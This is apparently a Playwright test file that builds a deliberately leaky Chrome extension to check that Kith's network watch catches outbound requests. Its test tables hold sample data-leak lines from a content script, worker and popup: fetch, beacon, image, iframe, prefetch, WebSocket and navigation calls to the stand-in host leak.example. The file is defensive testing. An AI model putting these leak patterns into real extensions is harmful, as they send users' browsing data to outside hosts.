import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test as base, expect } from '@playwright/test';
import { Kith } from './support/kith.ts';
import { BUILT, launchChromium, newProfile, type Running, removeProfile } from './support/launch.ts';

const PROFILE_PAGE = 'https://www.linkedin.com/in/nobody-at-all/';

/** A Chromium with an extension that breaks Kith's promise in the ways named by its three scripts. */
const test = base.extend<{ run: (scripts: { worker?: string; page?: string; popup?: string }) => Promise<Running> }>({
  run: async ({}, use) => {
    const profile = await newProfile();
    const started: Running[] = [];
    await use(async (scripts) => {
      const running = await launchChromium({ profile, extension: await leaky(join(profile, 'leaky'), scripts) });
      started.push(running);
      running.web.serve(PROFILE_PAGE, '<!doctype html><title>Nobody</title><img src="https://static.licdn.com/face.png?a=1&amp;b=2">');
      return running;
    });
    for (const running of started) await running.close();
    await removeProfile(profile);
  },
});

test.describe('the watch over the network', () => {
  test('finds nothing to say of a page that loads what it names', async ({ run }) => {
    const running = await run({});
    const page = await running.context.newPage();
    await page.goto(PROFILE_PAGE, { waitUntil: 'load' });
    expect(running.requestsMade()).toEqual([]);
  });

  const PAGE_LEAKS = {
    'a fetch': "fetch('https://leak.example/x').catch(() => {})",
    'a fetch of the very address in front': 'fetch(location.href)',
    'a beacon': "navigator.sendBeacon('https://leak.example/x', 'note')",
    'an image': "new Image().src = 'https://leak.example/x'",
    'a prefetched address': "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://leak.example/x' }))",
    'a frame': "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://leak.example/x' }))",
    'a socket': "try { new WebSocket('wss://leak.example/x') } catch {}",
    'a navigation': "location.href = 'https://leak.example/x'",
  };
  for (const [what, page] of Object.entries(PAGE_LEAKS)) {
    test(`notices ${what} from the script in the page`, async ({ run }) => {
      const running = await run({ page });
      const tab = await running.context.newPage();
      await tab.goto(PROFILE_PAGE).catch(() => {
        // The page's script may lead elsewhere before the page has loaded.
      });
      await expect.poll(() => running.requestsMade().join('\n')).toMatch(/leak\.example|nobody-at-all/);
    });
  }

  const WORKER_LEAKS = {
    'a fetch as it starts': "fetch('https://leak.example/x').catch(() => {})",
    'a socket': "new WebSocket('wss://leak.example/x')",
    'a tab opened on a strange address': "chrome.tabs.create({ url: 'https://leak.example/x' })",
  };
  for (const [what, worker] of Object.entries(WORKER_LEAKS)) {
    test(`notices ${what} from the worker`, async ({ run }) => {
      const running = await run({ worker });
      await expect.poll(() => running.requestsMade().join('\n')).toContain('leak.example');
    });
  }

  const POPUP_LEAKS = {
    'a fetch': "fetch('https://leak.example/x').catch(() => {})",
    'an image': "new Image().src = 'https://leak.example/x'",
    'a style sheet': "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://leak.example/x' }))",
    'a socket': "new WebSocket('wss://leak.example/x')",
  };
  for (const [what, popup] of Object.entries(POPUP_LEAKS)) {
    test(`notices ${what} from an extension page`, async ({ run }) => {
      const running = await run({ popup });
      const kith = await Kith.in(running);
      await kith.open('popup.html');
      await expect.poll(() => running.requestsMade().join('\n')).toContain('leak.example');
    });
  }
});

/** An unpacked extension with Kith's id, no policy of its own, and the given scripts. */
async function leaky(folder: string, { worker = '', page = '', popup = '' }: { worker?: string; page?: string; popup?: string }): Promise<string> {
  const { key } = JSON.parse(await readFile(join(BUILT, 'manifest.json'), 'utf8'));
  const manifest = {
    manifest_version: 3,
    name: 'Leaky',
    version: '1',
    key,
    background: { service_worker: 'worker.js' },
    host_permissions: ['https://www.linkedin.com/*'],
    content_scripts: [{ matches: ['https://www.linkedin.com/*'], js: ['page.js'] }],
    action: { default_popup: 'popup.html' },
  };
  const files = {
    'manifest.json': JSON.stringify(manifest),
    'worker.js': `chrome.runtime.onMessage.addListener(() => {});\n${worker}`,
    'page.js': page,
    'popup.html': '<script src="popup.js"></script>',
    'popup.js': popup,
  };
  await mkdir(folder);
  for (const [name, text] of Object.entries(files)) await writeFile(join(folder, name), text);
  return folder;
}
